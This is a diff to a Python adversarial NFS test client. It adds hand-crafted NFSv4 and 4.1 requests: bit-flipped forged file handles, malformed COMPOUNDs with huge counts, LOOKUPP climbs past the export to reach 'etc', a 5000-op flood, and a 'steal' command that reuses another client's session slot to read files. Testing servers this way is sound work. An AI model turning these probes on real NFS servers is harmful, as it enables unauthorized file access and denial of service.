@@ -1,4 +1,4 @@
-"""A client of NFSv3 that means harm, for tests: what it sends is made by hand.
+"""A client of NFSv3 and NFSv4 that means harm, for tests: what it sends is made by hand.
 
     nfs_adversary.py SERVER EXPORT SOURCE UID COMMAND [ARGUMENT...]
 
@@ -11,6 +11,9 @@ import sys
 
 NFS, MOUNT = 100003, 100005
 GETATTR, LOOKUP, ACCESS, READ, WRITE, CREATE, REMOVE = 1, 3, 4, 6, 7, 8, 12
+# Of NFSv4.
+GETATTR4, GETFH, LOOKUP4, LOOKUPP, PUTFH, PUTROOTFH, READ4, WRITE4 = 9, 10, 15, 16, 22, 24, 25, 38
+EXCHANGE_ID, CREATE_SESSION, SEQUENCE = 42, 43, 53
 LAST = 1 << 31
 server, export, source, uid = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
 
@@ -23,10 +26,10 @@ def opaque(data):
     return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)
 
 
-def call(xid, program, procedure, arguments, user=None):
+def call(xid, program, procedure, arguments, user=None, version=3):
     user = uid if user is None else user
     credential = struct.pack(">I", 0) + opaque(b"adversary") + struct.pack(">III", user, user, 0)
-    head = struct.pack(">IIIIIIII", xid, 0, 2, program, 3, procedure, 1, len(credential)) + credential
+    head = struct.pack(">IIIIIIII", xid, 0, 2, program, version, procedure, 1, len(credential)) + credential
     return head + struct.pack(">II", 0, 0) + arguments
 
 
@@ -72,6 +75,16 @@ class Client:
             return "rpc %s" % said, b""
         return struct.unpack(">I", results[:4])[0], results[4:]
 
+    def compound(self, arguments):
+        """Status of a COMPOUND, or what RPC says, and the results from their number on."""
+        self.xid += 1
+        self.send(call(self.xid, NFS, 1, arguments, version=4))
+        _, said, results = self.reply()
+        if said != 0:
+            return "rpc %s" % said, b""
+        tag = struct.unpack(">I", results[4:8])[0]
+        return struct.unpack(">I", results[:4])[0], results[8 + tag + -tag % 4:]
+
     def root(self):
         _, said, results = self.ask(MOUNT, 1, opaque(export.encode()))
         assert said == 0 and results[:4] == b"\0" * 4, (said, results)
@@ -83,6 +96,18 @@ class Client:
         assert status == 0, status
         length = struct.unpack(">I", results[:4])[0]
         return results[4:4 + length]
+
+
+def op(number, *arguments):
+    return struct.pack(">I", number) + b"".join(arguments)
+
+
+def words(*numbers):
+    return struct.pack(">%dI" % len(numbers), *numbers)
+
+
+def compound(minor, *ops, count=None, tag=b""):
+    return opaque(tag) + words(minor, len(ops) if count is None else count) + b"".join(ops)
 
 
 def counted(statuses):
@@ -157,6 +182,75 @@ def reuse(path):
     print(again.nfs(LOOKUP, opaque(root) + opaque(path.encode()))[0])
 
 
+def down(path):
+    """From the server's root to a file of the export."""
+    return [op(PUTROOTFH)] + [op(LOOKUP4, opaque(name.encode())) for name in [export.strip("/"), path]]
+
+
+def handle4_of(path):
+    status, results = Client().compound(compound(0, *down(path), op(GETFH)))
+    assert status == 0, status
+    print(results[-struct.unpack(">I", results[36:40])[0]:].hex())
+
+
+def use4(handle):
+    print(Client().compound(compound(0, op(PUTFH, opaque(bytes.fromhex(handle))), op(READ4, bytes(16), words(0, 0, 100))))[0])
+
+
+def compounds(handle):
+    """COMPOUNDs that lie, and ways past the export."""
+    client = Client()
+    good = bytes.fromhex(handle)
+    look = op(GETATTR4, words(1, 2))
+    flipped = [bytes(b ^ (1 << at % 8) * (n == at) for n, b in enumerate(good)) for at in range(len(good))]
+    counted([client.compound(compound(0, op(PUTFH, opaque(one)), look))[0] for one in flipped])
+    lies = [
+        compound(0, count=1 << 31),
+        compound(0, look, count=2),
+        words(1 << 31) + compound(0, op(PUTROOTFH)),
+        compound(0, op(PUTFH, words(1 << 31))),
+        compound(0, op(PUTFH, opaque(good)), op(WRITE4, bytes(16), words(0, 0, 2, 1 << 31))),
+        compound(0, op(PUTFH, opaque(good)), op(GETATTR4, words(1 << 31))),
+    ]
+    print(*[client.compound(one)[0] for one in lies], sep=", ")
+    above = down("")[:2] + [op(LOOKUPP)]
+    out = client.compound(compound(0, *above, op(LOOKUP4, opaque(b"etc"))))[0]
+    print(client.compound(compound(0, *[op(PUTROOTFH)] * 5000))[0], out, client.compound(compound(0, *above, op(LOOKUPP)))[0])
+    print(client.compound(compound(0, op(PUTFH, opaque(good)), look))[0])
+
+
+def session():
+    """A session of NFSv4.1."""
+    client = Client()
+    owner = os.urandom(8) + opaque(os.urandom(8))
+    status, results = client.compound(compound(1, op(EXCHANGE_ID, owner, words(0, 0, 0))))
+    assert status == 0, status
+    channel = words(0, 65536, 65536, 65536, 16, 8, 0)
+    status, results = client.compound(
+        compound(1, op(CREATE_SESSION, results[12:24], words(0), channel, channel, words(0x40000000, 1, 0)))
+    )
+    assert status == 0, status
+    return client, results[12:28]
+
+
+def read_in(client, place, path):
+    """Reads a file at a place in a session: the status, and the data."""
+    read = op(READ4, bytes(16), words(0, 0, 100))
+    status, results = client.compound(compound(1, op(SEQUENCE, place, words(1)), *down(path), read))
+    return status, results[-8:].rstrip(b"\0").decode(errors="replace") if status == 0 else ""
+
+
+def read_once(path):
+    client, identity = session()
+    place = identity + words(1, 0, 0)
+    print(place.hex(), *read_in(client, place, path))
+
+
+def steal(place, path):
+    """Asks for one file where another one has asked for another."""
+    print(*read_in(Client(), bytes.fromhex(place), path))
+
+
 def spoof(path, other):
     """Reads a file as oneself, then as somebody whom one says to be."""
     client = Client()
@@ -183,4 +277,5 @@ def flood(path, count):
 
 
 commands = {"handle": handle_of, "use": use, "forge": forge, "records": records, "reuse": reuse, "spoof": spoof, "flood": flood}
+commands |= {"handle4": handle4_of, "use4": use4, "compounds": compounds, "read-once": read_once, "steal": steal}
 commands[sys.argv[5]](*sys.argv[6:])
